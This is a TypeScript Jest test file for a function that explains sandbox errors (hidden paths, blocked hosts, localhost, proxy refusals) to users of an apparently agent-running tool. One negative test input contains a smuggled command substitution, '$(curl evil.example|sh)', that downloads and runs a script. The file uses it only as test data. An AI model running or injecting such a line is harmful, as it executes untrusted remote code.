import { describe, expect, test } from '@jest/globals';
import { explainBySandbox, type SandboxFacts } from '../../../src/domain/attempt/explain-sandbox.ts';

const explain = (output: string, facts: Partial<SandboxFacts> = {}) =>
  explainBySandbox({ output, refusals: [], network: 'none', hides: (path) => path.startsWith('/home/a'), ...facts });

describe('a path that the sandbox hides', () => {
  test.each([
    '/usr/bin/bash: line 1: /home/a/agent.sh: No such file or directory',
    'sh: 1: /home/a/agent.sh: not found',
    "python3: can't open file '/home/a/agent.sh': [Errno 2] No such file or directory",
    "node: Error: Cannot find module '/home/a/agent.sh'",
    "Error: ENOENT: no such file or directory, open '/home/a/agent.sh'",
    'working in /home/a/other\n/usr/bin/env: ‘node’: ok\ncat: /home/a/agent.sh: No such file or directory\n',
  ])('is named with the flag that shows it: %s', (output) => {
    expect(explain(output)).toBe(
      'The sandbox hides /home/a/agent.sh from the agent, which starts in a checkout of its own and writes there alone: name files of the repository by relative paths, or if it may read what is there, allow that with --visible-paths /home/a/agent.sh.',
    );
  });

  test('is explained to who changes into it, since the repository is elsewhere', () => {
    expect(explain('bash: line 1: cd: /home/a/repo: No such file or directory')).toMatch(
      /^The sandbox hides \/home\/a\/repo from the agent, .* relative paths, or .* --visible-paths \/home\/a\/repo\.$/,
    );
  });

  test.each([
    'bash: line 1: /usr/lib/tool: No such file or directory',
    'read /home/a/agent.sh',
    'cat: /home/a/x$(curl evil.example|sh): No such file or directory',
    'bash: tool: command not found',
    '',
  ])('is not seen in other output: %s', (output) => {
    expect(explain(output)).toBeUndefined();
  });
});

describe('a host that the sandbox keeps from the agent', () => {
  test.each([
    'curl: (6) Could not resolve host: api.example.com',
    'Error: getaddrinfo ENOTFOUND api.example.com',
    '  [cause]: Error: getaddrinfo EAI_AGAIN api.example.com',
    'urlopen error [Errno -3] Temporary failure in name resolution',
    'connect: Network is unreachable',
  ])('is explained by the network that there is: %s', (output) => {
    expect(explain(output)).toMatch(/^The sandbox gives the agent no network: .* --network-agent open\.$/);
    expect(explain(output, { network: 'hosts' })).toMatch(/^In the sandbox .* proxy .* needs --network-agent open\.$/);
    expect(explain(output, { network: 'open' })).toBeUndefined();
  });

  test('is no missing module of Python, whose error has the same letters', () => {
    for (const network of ['none', 'hosts'] as const)
      expect(explain("ModuleNotFoundError: No module named 'openai'", { network })).toBeUndefined();
  });

  test('that is allowed and does not answer is named, instead of the flag for the whole network', () => {
    const output = 'OSError: Tunnel connection failed: 502 Groundhog did not reach host api.example.com: ENOTFOUND';
    const text = explain(output, { network: 'hosts' });
    expect(text).toMatch(/^The agent may reach api\.example\.com, and the machine did not \(ENOTFOUND\)/);
    expect(text).not.toContain('--network-agent');
  });

  test.each([
    "curl: (7) Failed to connect to 127.0.0.1 port 11434 after 0 ms: Couldn't connect to server",
    'wget: unable to connect to localhost: Connection refused',
    'Error: connect ECONNREFUSED ::1:11434',
  ])('is the machine itself, whose servers another localhost does not have: %s', (output) => {
    for (const network of ['none', 'hosts'] as const)
      expect(explain(output, { network })).toMatch(/^In the sandbox localhost .* --network-agent open\.$/);
    expect(explain(output, { network: 'open' })).toBeUndefined();
    expect(explain(output.replace(/127\.0\.0\.1|localhost|::1/, 'a.example'))).toBeUndefined();
  });

  test('is named where the proxy refused it, and the agent ended by that', () => {
    const facts = { network: 'hosts', refusals: ['Refused in the sandbox: host a.example:443.'] } as const;
    expect(explain('curl: (56) CONNECT tunnel failed, response 403', facts)).toBe(facts.refusals[0]);
    expect(explain('Tests failed.', facts)).toBeUndefined();
    expect(explain('curl: (56) CONNECT tunnel failed, response 403', { network: 'hosts' })).toBeUndefined();
  });
});
